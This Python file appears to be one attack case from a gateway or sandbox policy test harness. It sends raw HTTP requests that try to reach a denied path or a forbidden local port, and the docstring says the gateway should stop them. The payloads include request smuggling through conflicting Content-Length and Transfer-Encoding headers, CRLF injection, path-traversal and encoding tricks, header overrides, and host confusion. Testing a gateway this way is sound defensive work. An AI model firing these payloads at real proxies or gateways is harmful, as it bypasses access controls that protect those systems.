"""Have the gateway and the destination disagree about a request.

gain: a request that no policy saw
attack: T1090
stopped by: gateway
unconfined: host
seen from outside: yes
also refused by: ENETUNREACH, ECONNREFUSED, EADDRNOTAVAIL, ECONNRESET, EPIPE
"""

import socket

from attacker import Refused, each, first, line


def ask(world, text):
    with socket.socket() as sock:
        sock.settimeout(0.15)
        sock.connect(tuple(world["gateway"]))
        sock.sendall(text.encode())
        answer = b""
        try:
            while part := sock.recv(4096):
                answer += part
        except TimeoutError:
            pass
    if b"sink denied" in answer or b"sink forbidden" in answer:
        return f"{text[:60]!r}… reached what is denied"
    raise Refused(f"{line(answer)!r}")


def attempt(world):
    host, port = world["good"]
    place, token = f"{host}:{port}", world["token"]
    inner = f"GET http://{place}/denied-path/{token} HTTP/1.1\r\nHost: {place}\r\n\r\n"
    plain = f"GET /denied-path/{token} HTTP/1.1\r\nHost: {place}\r\n\r\n"
    start = f"POST http://{place}/open HTTP/1.1\r\nHost: {place}\r\n"
    get = f"GET http://{place}"
    bad = f"127.0.0.1:{world['forbidden']}"
    requests = [
        inner,
        f"{start}Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{plain}",
        f"{start}Content-Length: 5\r\nContent-Length: 0\r\n\r\n{plain}",
        f"{start}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{plain}",
        f"{start}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{plain}",
        f"{start}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{plain}",
        f"{start}Content-Length: +0\r\n\r\n{plain}",
        f"{start}Content-Length: 0\r\nX: y\n\n{plain}",
        f"{start}Transfer-Encoding: chunked\r\n\r\n0;\n\r\n\r\n{plain}",
        f"{get}/open%0d%0aX:%20y%0d%0a%0d%0a{plain}",
        f"{get}/open\r\n {plain}",
        f"{get}/./denied-path/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"{get}/open/../denied-path/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"{get}/open/%2e%2e/denied-path/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"{get}/%64enied-path/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"{get}//denied-path/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"{get}/open\\..\\denied-path/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"{get}/open/..;/denied-path/ HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"{get}/open HTTP/1.1\r\nHost: {place}\r\nX-Original-URL: /denied-path/\r\n\r\n",
        f"{get}/open HTTP/1.1\r\nHost: {bad}\r\n\r\n",
        f"GET http://{bad}/{token} HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"GET /{token} HTTP/1.1\r\nHost: {bad}\r\n\r\n",
        f"GET http://{place}@{bad}/{token} HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"GET http://{place}#@{bad}/{token} HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"GET http://{bad}\t{place}/{token} HTTP/1.1\r\nHost: {place}\r\n\r\n",
        f"CONNECT {place} HTTP/1.1\r\nHost: {bad}\r\n\r\n",
    ]
    return first(*each(requests, lambda text: ask(world, text)))
